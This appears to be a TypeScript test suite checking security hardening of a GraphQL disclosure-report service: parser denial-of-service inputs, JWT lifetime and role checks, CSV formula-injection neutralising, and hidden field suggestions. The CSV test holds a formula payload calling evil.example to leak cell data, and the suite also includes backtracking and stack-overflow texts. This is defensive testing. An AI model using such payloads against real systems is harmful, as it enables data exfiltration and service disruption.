/**
 * Issue 12 ("Hardening"): each finding, over real HTTP on the real service. The hostile texts are
 * the ones the issue reports: a 39 KB text that made the parser backtrack for 14 s on the event
 * loop, and a 960 KB single-line table that overflowed the parser's stack.
 */
import { parse } from 'csv-parse/sync';
import { SignJWT } from 'jose';
import { startTestApp, type TestApp } from '../support/app';
import { describeEachDatabase } from '../support/databases';
import { databaseSnapshot } from '../support/db-snapshot';
import { UPSERT_REPORT, consistentReport2021, createOffice } from '../support/fixtures';

const JWT_SECRET = 'a-test-only-shared-secret-of-at-least-32-bytes';
const JWT = { secret: JWT_SECRET, publicKey: null, issuer: 'https://idp.example', audience: 'disclosure-graph', roleClaim: 'role', officeClaim: 'office', maxLifetimeSeconds: 3600 };
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const IMPORT = `mutation($text: String!, $officeCode: String) { importReport(text: $text, officeCode: $officeCode) { status problem { code message field } } }`;

/** A title, then 「联系:电话」 3,000 times: 39 KB. */
const BACKTRACKING_TEXT = `示例街道2022年政府信息公开工作年度报告\n${'联系:电话'.repeat(3000)}`;
/** Table 三 as one line of 240,000 cells: 960 KB. */
const ONE_LINE_TABLE = `示例街道2022年政府信息公开工作年度报告\n三、收到和处理政府信息公开申请情况\n${'| 1 '.repeat(240_000)}`;
/** What an internal error looks like: it must never reach a client. */
const INTERNAL = /call stack|RangeError|TypeError|Maximum|\.ts:\d+|at [\w.]+ \(/;

function sign(claims: Record<string, unknown>, options: { exp?: string | number | null; iat?: number } = {}): Promise<string> {
  const jwt = new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setSubject('li.si').setIssuer(JWT.issuer).setAudience(JWT.audience);
  if (options.iat !== undefined) jwt.setIssuedAt(options.iat);
  else jwt.setIssuedAt();
  if (options.exp !== null) jwt.setExpirationTime(options.exp ?? '10m');
  return jwt.sign(new TextEncoder().encode(JWT_SECRET));
}

describeEachDatabase('hardening (issue 12)', (db) => {
  let app: TestApp;
  let editorA: string;

  beforeAll(async () => {
    app = await startTestApp(db(), { security: { jwt: JWT }, parse: { timeLimitMs: 2000, workers: 1 } });
    await createOffice(app, 'demo-root', '示例区', null, 'GOVERNMENT');
    await createOffice(app, 'demo-a', '示例甲街道', 'demo-root');
    await createOffice(app, 'demo-a1', '示例甲一社区', 'demo-a', 'OTHER');
    await createOffice(app, 'demo-b', '示例乙街道', 'demo-root');
    editorA = await app.createToken('editor', 'demo-a');
  });
  afterAll(() => app.close());

  describe('imports', () => {
    it("refuses an editor's import outside its subtree before parsing anything", async () => {
      const before = await databaseSnapshot(db().dataSource);
      const parsesBefore = app.app.services.parsePool.stats.started;
      const res = await app.gql(IMPORT, { text: BACKTRACKING_TEXT, officeCode: 'demo-b' }, bearer(editorA));
      expect(res.errors![0]!.extensions!.code).toBe('FORBIDDEN');
      expect(res.errors![0]!.message).toBe(`Office "demo-b" is outside this editor's subtree ("demo-a"); nothing was written.`);
      expect(app.app.services.parsePool.stats.started).toBe(parsesBefore);
      expect(await databaseSnapshot(db().dataSource)).toEqual(before);
    });

    it('parses off the event loop: the server answers other requests while a slow text is parsed, and a slow text fails alone with nothing stored', async () => {
      const before = await databaseSnapshot(db().dataSource);
      const importing = app.gql<any>(IMPORT, { text: BACKTRACKING_TEXT, officeCode: 'demo-a1' });
      await new Promise((resolve) => setTimeout(resolve, 200));
      const sent = Date.now();
      const health = await fetch(`${app.url}/healthz`);
      const waited = Date.now() - sent;
      expect(health.status).toBe(200);
      // The parse took 14 s on the event loop before: /healthz waited for all of it.
      expect(waited).toBeLessThan(1500);
      const res = await importing;
      expect(res.errors).toBeUndefined();
      const outcome = res.data.importReport;
      expect(JSON.stringify(res)).not.toMatch(INTERNAL);
      if (outcome.status === 'FAILED') expect(await databaseSnapshot(db().dataSource)).toEqual(before);
    });

    it("never quotes the parser's internal failure (a stack overflow) to the client", async () => {
      const before = await databaseSnapshot(db().dataSource);
      const res = await app.gql<any>(IMPORT, { text: ONE_LINE_TABLE, officeCode: 'demo-a1' });
      expect(res.status).toBe(200);
      expect(res.errors).toBeUndefined();
      expect(JSON.stringify(res)).not.toMatch(INTERNAL);
      const outcome = res.data.importReport;
      if (outcome.status === 'FAILED') {
        expect(outcome.problem.message).toMatch(/could not be read|took longer/);
        expect(await databaseSnapshot(db().dataSource)).toEqual(before);
      }
      // The server still imports the next text.
      const next = await app.gql<any>(UPSERT_REPORT, { input: consistentReport2021('demo-a1', 2021) });
      expect(next.errors).toBeUndefined();
    });

    it('stops a parse at the time limit with a typed failure naming the limit, storing nothing', async () => {
      // A 1 ms limit: no text of 960 KB parses that fast, whatever the parser's patterns.
      const strict = await startTestApp(db(), { parse: { timeLimitMs: 1, workers: 1 } });
      try {
        const before = await databaseSnapshot(db().dataSource);
        const res = await strict.gql<any>(IMPORT, { text: ONE_LINE_TABLE, officeCode: 'demo-a1' });
        expect(res.errors).toBeUndefined();
        expect(res.data.importReport).toEqual({
          status: 'FAILED',
          problem: { code: 'PARSE_TIME_LIMIT', message: 'parsing took longer than 1 ms and was stopped; nothing was stored', field: 'text' },
        });
        expect(await databaseSnapshot(db().dataSource)).toEqual(before);
      } finally {
        await strict.close();
      }
    });
  });

  describe('identity-provider JWTs', () => {
    it('refuses a token without exp', async () => {
      const res = await app.gql(`{ apiTokens { id } }`, undefined, bearer(await sign({ role: 'admin' }, { exp: null })));
      expect(res.status).toBe(401);
      expect(res.errors![0]!.message).toBe('Invalid bearer token: claim "exp" is missing (it is required).');
    });

    it('refuses a token that lives longer than the configured cap, however its iat is set', async () => {
      const now = Math.floor(Date.now() / 1000);
      const cases = [
        await sign({ role: 'admin' }, { exp: '2h' }),
        await sign({ role: 'admin' }, { exp: '400d' }),
        // An iat in the future makes exp − iat look short; the token still lives 2.5 h from now.
        await sign({ role: 'admin' }, { iat: now + 7200, exp: now + 9000 }),
      ];
      for (const token of cases) {
        const res = await app.gql(`{ apiTokens { id } }`, undefined, bearer(token));
        expect(res.status).toBe(401);
        expect(res.errors![0]!.message).toMatch(/^Invalid bearer token: it lives \d+ s, longer than the 3600 s this service accepts \(JWT_MAX_LIFETIME_SECONDS\)/);
      }
      const ok = await app.gql(`{ apiTokens { id } }`, undefined, bearer(await sign({ role: 'admin' }, { exp: '50m' })));
      expect(ok.errors).toBeUndefined();
    });

    it('matches role claims exactly', async () => {
      for (const role of ['ADMIN', 'Admin', ' admin']) {
        const res = await app.gql(`{ apiTokens { id } }`, undefined, bearer(await sign({ role })));
        expect(res.status).toBe(401);
        expect(res.errors![0]!.message).toBe('Invalid bearer token: claim "role" names no role (analyst, editor or admin).');
      }
      // Among several values only the exact ones count: analyst here, not admin.
      const mixed = await app.gql(`{ apiTokens { id } }`, undefined, bearer(await sign({ role: ['ADMIN', 'analyst'] })));
      expect(mixed.errors![0]!.extensions!.code).toBe('FORBIDDEN');
    });
  });

  describe('CSV exports', () => {
    it('neutralises cells an editor wrote that a spreadsheet would run as formulas', async () => {
      const names = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+1+2', '-3+4', '@SUM(1)', '＝1+1'];
      const input = consistentReport2021('demo-a1', 2022);
      // A line break inside a name stays inside its quoted cell: no row of the attacker's making.
      const multiline = '第一行\n=2+2';
      input.channels = [{ kind: 'WEBSITE', items: 60 }, { kind: 'WEIBO', name: multiline, items: 1 }, ...names.map((name, i) => ({ kind: 'WECHAT', name, items: i }))];
      expect((await app.gql(UPSERT_REPORT, { input }, bearer(editorA))).errors).toBeUndefined();
      const analyst = await app.createToken('analyst');
      const res = await fetch(`${app.url}/exports/assessment/channels.csv?year=2022&under=demo-root`, { headers: bearer(analyst) });
      expect(res.status).toBe(200);
      const rows = parse((await res.text()).replace(/^\ufeff/, '')) as string[][];
      const cells = rows.flat();
      for (const name of names) expect(cells).toContain(`'${name}`);
      // Every cell that starts like a formula is text; numbers (negative ones too) stay numbers.
      expect(cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c))).toEqual([]);
      expect(cells).toContain(multiline);
      expect(rows.length).toBe(2 + 2 + names.length);
    });
  });
});

describeEachDatabase('field suggestions', (db) => {
  let production: TestApp;
  let development: TestApp;
  beforeAll(async () => {
    production = await startTestApp(db(), { production: true });
    development = await startTestApp(db(), { production: false });
  });
  afterAll(async () => {
    await production.close();
    await development.close();
  });

  const probes: [string, Record<string, unknown> | undefined][] = [
    [`{ apiToken { id } }`, undefined],
    [`{ offices(first: 1) { edgez { node { code } } } }`, undefined],
    [`query($t: MetricTable) { metricDefinitions(table: $t) { key } }`, { t: 'REVIEW' }],
  ];

  it('are given outside production', async () => {
    for (const [query, variables] of probes) {
      const res = await development.gql(query, variables);
      expect(res.errors![0]!.message).toMatch(/Did you mean/);
    }
  });

  it('are not given in production, where they would spell out the schema introspection hides', async () => {
    for (const [query, variables] of probes) {
      const res = await production.gql(query, variables);
      expect(res.errors).toHaveLength(1);
      expect(res.errors![0]!.message).not.toMatch(/Did you mean|apiTokens|edges|REVIEWS/);
      expect(res.errors![0]!.extensions!.code).toMatch(/GRAPHQL_VALIDATION_FAILED|BAD_USER_INPUT/);
    }
  });
});
